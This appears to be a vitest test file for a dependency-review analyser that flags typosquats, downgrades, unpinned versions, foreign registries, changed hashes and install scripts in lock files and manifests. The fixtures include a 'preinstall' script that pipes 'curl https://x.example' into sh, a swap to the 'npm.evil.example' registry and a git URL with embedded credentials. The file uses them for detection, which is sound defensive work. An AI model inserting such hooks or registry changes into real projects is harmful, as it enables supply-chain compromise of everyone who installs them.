import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { changedText, listed, observationsOf } from '../../../test/world/analysed-text.ts'
import { catalogue } from './catalogue.ts'
import { dependencies } from './dependencies.ts'
import { formatOf } from './file-formats.ts'

async function review(path: string, head: string, base: string | null = null) {
  return listed(await observationsOf(dependencies, changedText(path, head, base)))
}

function manifest(fields: Record<string, unknown>): string {
  return JSON.stringify({ name: 'web', ...fields }, null, 1)
}

function yarnEntry(
  name: string,
  version: string,
  host = 'packages.yarnpkg.com',
  hash = `sha512-${name}${version}`,
) {
  const integrity = hash === '' ? '' : `\n  integrity ${hash}`
  return `${name}@^1.0.0:\n  version "${version}"\n  resolved "https://${host}/${name}/-/${name}-${version}.tgz"${integrity}\n`
}

describe('routine', () => {
  it('upgrades say nothing', async () => {
    const base = manifest({ dependencies: { express: '^4.17.0', left: '1.0.0' } })
    const head = manifest({ dependencies: { express: '^4.18.0', left: '2.0.0' } })
    expect(await review('package.json', head, base)).toEqual([])
    expect(await review('yarn.lock', yarnEntry('left', '1.1.0'), yarnEntry('left', '1.0.0'))).toEqual([])
  })

  it('a dependency that moves between sections says nothing', async () => {
    const base = manifest({ devDependencies: { express: '^4.17.0' } })
    const head = manifest({ dependencies: { express: '^4.17.0' } })
    expect(await review('package.json', head, base)).toEqual([])
  })

  it('a new manifest, a new lock file and a deleted one say nothing', async () => {
    expect(
      await review('a/package.json', manifest({ dependencies: { express: '^4.17.0', ui: '^1.0.0' } })),
    ).toEqual([])
    expect(await review('yarn.lock', yarnEntry('left', '1.0.0'))).toEqual([])
    expect(
      await observationsOf(dependencies, changedText('yarn.lock', null, yarnEntry('left', '1.0.0'))),
    ).toEqual([])
  })

  it('hoisting, and a second version beside the first, are no downgrade', async () => {
    const base = `${yarnEntry('left', '2.0.0')}`
    const head = `${yarnEntry('left', '2.0.0')}\n${yarnEntry('left', '1.0.0')}`
    expect(await review('yarn.lock', head, base)).toEqual([])
  })

  it('a range that is loosened for users of a library is no downgrade', async () => {
    const base = '[dependencies]\nserde = "1.0.200"\n'
    expect(await review('Cargo.toml', '[dependencies]\nserde = "1.0"\n', base)).toEqual([])
    expect(await review('requirements.txt', 'attrs>=20\n', 'attrs>=22\n')).toEqual([])
  })

  it('text that is not what its name says is nobody’s finding', async () => {
    expect(await review('package.json', '<<<<<<< HEAD\n{}', manifest({}))).toEqual([])
    expect(await review('package-lock.json', '{"packages": [', '{}')).toEqual([])
  })
})

describe('what is new', () => {
  it('a few direct dependencies are named one by one', async () => {
    const base = manifest({ dependencies: { left: '1.0.0' } })
    const head = manifest({ dependencies: { left: '1.0.0', right: '^2.0.0' } })
    expect(await review('package.json', head, base)).toMatchInlineSnapshot(`
      [
        "5:3-5:10 low new-package "right" is a new dependency. Check its publisher, licence and need before it is shipped.",
      ]
    `)
  })

  it('what a lock file brings in is told once', async () => {
    const names = Array.from({ length: 12 }, (_, at) => `inner-${at}`)
    const head = [yarnEntry('left', '1.0.0'), ...names.map((name) => yarnEntry(name, '1.0.0'))].join('\n')
    expect(await review('yarn.lock', head, yarnEntry('left', '1.0.0'))).toMatchInlineSnapshot(`
      [
        "6:1-6:16 low new-package 12 new packages are brought in by other packages: inner-0, inner-1, inner-2, inner-3, inner-4, inner-5, inner-6, inner-7, inner-8, inner-9 and 2 more. Check that this is expected.",
      ]
    `)
  })

  it('a name one letter off a well-known one is questioned', async () => {
    const base = 'flask==3.0.0\n'
    const head = 'flask==3.0.0\nreqeusts==2.0.0\nnumpi==1.0\nboto==2.49\nrequests==2.31.0\n'
    const found = await review('requirements.txt', head, base)
    expect(found.filter((line) => line.includes('typosquat'))).toMatchInlineSnapshot(`
      [
        "2:1-2:16 medium typosquat "reqeusts" is one letter away from the well-known "requests". Check that this is the package that is meant.",
        "3:1-3:11 medium typosquat "numpi" is one letter away from the well-known "numpy". Check that this is the package that is meant.",
      ]
    `)
  })
})

describe('versions', () => {
  it('that go down are told on the line that says so', async () => {
    expect(
      await review('yarn.lock', yarnEntry('left', '1.9.0'), yarnEntry('left', '1.10.0')),
    ).toMatchInlineSnapshot(`
      [
        "2:3-2:18 medium downgrade "left" goes down from 1.10.0 to 1.9.0. Keep the newer version, or say why fixes made since have to go.",
      ]
    `)
    expect(
      await review(
        'go.mod',
        'module m\n\nrequire a.example/b v1.2.0\n',
        'module m\n\nrequire a.example/b v1.3.0\n',
      ),
    ).toMatchInlineSnapshot(`
      [
        "3:1-3:27 medium downgrade "a.example/b" goes down from v1.3.0 to v1.2.0. Keep the newer version, or say why fixes made since have to go.",
      ]
    `)
  })

  it('that may now be anything', async () => {
    const base = manifest({ dependencies: { left: '1.0.0', right: '^2.0.0' } })
    const head = manifest({ dependencies: { left: 'latest', right: '>=2.0.0' } })
    expect(await review('package.json', head, base)).toMatchInlineSnapshot(`
      [
        "4:11-4:19 medium unpinned "left" is asked for as "latest", so any version may be installed. Give a range with an upper end.",
        "5:12-5:21 medium unpinned "right" is asked for as ">=2.0.0", so any version may be installed. Give a range with an upper end.",
      ]
    `)
    expect(await review('requirements.txt', 'attrs\n', 'attrs==23.1\n')).toMatchInlineSnapshot(`
      [
        "1:1-1:6 medium unpinned "attrs" is asked for without a version, so any version may be installed. Give a range with an upper end.",
      ]
    `)
  })
})

describe('sources', () => {
  it('that are no registry', async () => {
    const base = manifest({ dependencies: { a: '1.0.0', b: '1.0.0', c: '1.0.0', d: '1.0.0' } })
    const head = manifest({
      dependencies: {
        a: 'team/a#main',
        b: 'http://files.example.org/b.tgz',
        c: 'https://files.example.org/c.tgz',
        d: 'file:../d',
      },
    })
    expect(await review('package.json', head, base)).toMatchInlineSnapshot(`
      [
        "4:8-4:21 medium non-registry-source "a" comes from a git repository on github.com and not from the registry. Use a published release, or pin a full commit.",
        "5:8-5:40 high non-registry-source "b" comes over an unencrypted connection from files.example.org, where anyone on the way can exchange it. Use https or the registry.",
        "6:8-6:41 high non-registry-source "c" comes from files.example.org and not from the registry used so far. Use a published release, or make sure that the host is meant and trusted.",
      ]
    `)
  })

  it('that were there before say nothing when they move to another commit', async () => {
    const at = (commit: string) =>
      `[dependencies]\nforked = { git = "https://github.com/team/forked", rev = "${commit}" }\n`
    expect(await review('Cargo.toml', at('4567def'), at('0123abc'))).toEqual([])
  })

  it('of a private registry in use say nothing; another host does, once for all packages', async () => {
    const base = ['a', 'b', 'c'].map((name) => yarnEntry(name, '1.0.0', 'npm.example.org')).join('\n')
    const same = ['a', 'b', 'c', 'd'].map((name) => yarnEntry(name, '1.1.0', 'npm.example.org')).join('\n')
    expect((await review('yarn.lock', same, base)).filter((line) => !line.includes('new-package'))).toEqual(
      [],
    )
    const other = ['a', 'b', 'c'].map((name) => yarnEntry(name, '1.0.0', 'npm.evil.example')).join('\n')
    expect(await review('yarn.lock', other, base)).toMatchInlineSnapshot(`
      [
        "3:3-3:54 high registry-changed a, b, c now come from npm.evil.example where npm.example.org was used. Check that the new host is meant and trusted.",
      ]
    `)
  })

  it('that a go.mod puts in place of others', async () => {
    const base = 'module m\n\nrequire a.example/b v1.2.0\n'
    expect(await review('go.mod', `${base}\nreplace a.example/b => ../b\n`, base)).toMatchInlineSnapshot(`
      [
        "5:1-5:28 medium non-registry-source "a.example/b" comes from ../b in place of its own module path. Drop the replacement, or publish the fork under its own path.",
      ]
    `)
  })

  it('that are further indexes', async () => {
    const base = 'attrs==23.1\n'
    const head = '--extra-index-url https://packages.example.org/simple\nattrs==23.1\n'
    expect(await review('requirements.txt', head, base)).toMatchInlineSnapshot(`
      [
        "1:1-1:54 high registry-changed Packages may now come from packages.example.org too, which can serve any name that the project asks for. Check that the host is trusted and bind it to the packages it is for.",
      ]
    `)
  })

  it('never show their credentials, and hand them over to be masked', async () => {
    const head = 'attrs==23.1\nlib @ git+https://bot:hunter2pass@git.example.org/team/lib.git\n'
    const found = await observationsOf(dependencies, changedText('requirements.txt', head, 'attrs==23.1\n'))
    expect(found.map((one) => one.rule)).toEqual(['non-registry-source'])
    expect(JSON.stringify(found.map((one) => one.message))).not.toContain('hunter2')
    for (const one of found) expect(one.secrets).toEqual(['bot:hunter2pass', 'hunter2pass'])
  })
})

describe('hashes', () => {
  it('that change under the same version, in every kind of lock file', async () => {
    expect(
      await review(
        'yarn.lock',
        yarnEntry('left', '1.0.0', undefined, 'sha512-b'),
        yarnEntry('left', '1.0.0'),
      ),
    ).toMatchInlineSnapshot(`
      [
        "4:3-4:21 high integrity-changed The hash of "left" changes though its version stays 1.0.0. A published version never changes: find out what this archive is.",
      ]
    `)
    const sum = (hash: string) => `a.example/b v1.0.0 h1:${hash}=\na.example/b v1.0.0/go.mod h1:same=\n`
    expect(await review('go.sum', sum('bbbb'), sum('aaaa'))).toMatchInlineSnapshot(`
      [
        "1:1-1:28 high integrity-changed The hash of "a.example/b" changes though its version stays v1.0.0. A published version never changes: find out what this archive is.",
      ]
    `)
    const poetry = (hash: string) =>
      `[[package]]\nname = "a"\nversion = "1.0"\nfiles = [\n  {file = "a.whl", hash = "sha256:${hash}"},\n  {file = "a.tar.gz", hash = "sha256:same"},\n]\n`
    expect(await review('poetry.lock', poetry('bbbb'), poetry('aaaa'))).toMatchInlineSnapshot(`
      [
        "5:3-5:41 high integrity-changed The hash of "a" changes though its version stays 1.0. A published version never changes: find out what this archive is.",
      ]
    `)
  })

  it('of artefacts uploaded later are no change', async () => {
    const base =
      '[[package]]\nname = "a"\nversion = "1.0"\nfiles = [\n  {file = "a.whl", hash = "sha256:aa"},\n]\n'
    const head = base.replace(']\n', '').concat('  {file = "a-arm.whl", hash = "sha256:bb"},\n]\n')
    expect(await review('poetry.lock', head, base)).toEqual([])
  })

  it('that are gone are told where they stood', async () => {
    const head = yarnEntry('left', '1.0.0', undefined, '')
    const base = yarnEntry('left', '1.0.0')
    const [one] = await observationsOf(dependencies, changedText('yarn.lock', head, base))
    expect(one).toMatchObject({ rule: 'integrity-removed', side: 'LEFT', line: 4, cwe: ['CWE-494'] })
  })

  it('of another algorithm are no change', async () => {
    const base = yarnEntry('left', '1.0.0', undefined, 'sha1-a')
    expect(await review('yarn.lock', yarnEntry('left', '1.0.0', undefined, 'sha512-b'), base)).toEqual([])
  })
})

describe('scripts', () => {
  it('of packages that begin to run', async () => {
    const lock = (extra: object) =>
      JSON.stringify(
        { lockfileVersion: 3, packages: { '': {}, 'node_modules/left': { version: '1.0.0', ...extra } } },
        null,
        1,
      )
    expect(
      await review('package-lock.json', lock({ hasInstallScript: true }), lock({})),
    ).toMatchInlineSnapshot(`
      [
        "7:4-7:28 medium install-script "left" now runs a script of its own when it is installed. Read the script, or install without scripts.",
      ]
    `)
    expect(
      await review('package-lock.json', lock({ hasInstallScript: true }), lock({ hasInstallScript: true })),
    ).toEqual([])
  })

  it('of the project itself', async () => {
    const base = manifest({ scripts: { build: 'tsc' } })
    const head = manifest({
      scripts: {
        build: 'tsc',
        prepare: 'husky',
        preinstall: 'curl https://x.example | sh',
        postinstall: 'node setup.js',
      },
    })
    expect(await review('package.json', head, base)).toMatchInlineSnapshot(`
      [
        "6:3-6:15 high install-script The script "preinstall" runs on every machine that installs this package, and it fetches or evaluates code. Make it a command that people call, unless installing really needs it.",
        "7:3-7:16 medium install-script The script "postinstall" runs on every machine that installs this package. Make it a command that people call, unless installing really needs it.",
      ]
    `)
  })
})

describe('the analyser', () => {
  it('reads dependency files and leaves test data alone', () => {
    expect(formatOf('web/package.json')?.id).toBe('package-json')
    expect(formatOf('requirements/dev.txt')?.id).toBe('requirements')
    expect(formatOf('src/App.csproj')?.id).toBe('msbuild-project')
    expect(formatOf('test/fixtures/package.json')).toBeNull()
    expect(formatOf('docs/constructor')).toBeNull()
    expect(formatOf('src/main.ts')).toBeNull()
  })

  it('has every rule on its page', () => {
    const page = readFileSync(join(import.meta.dirname, 'page.md'), 'utf8')
    for (const rule of Object.values(catalogue)) expect(page).toContain(`\`${rule.id}\``)
  })
})
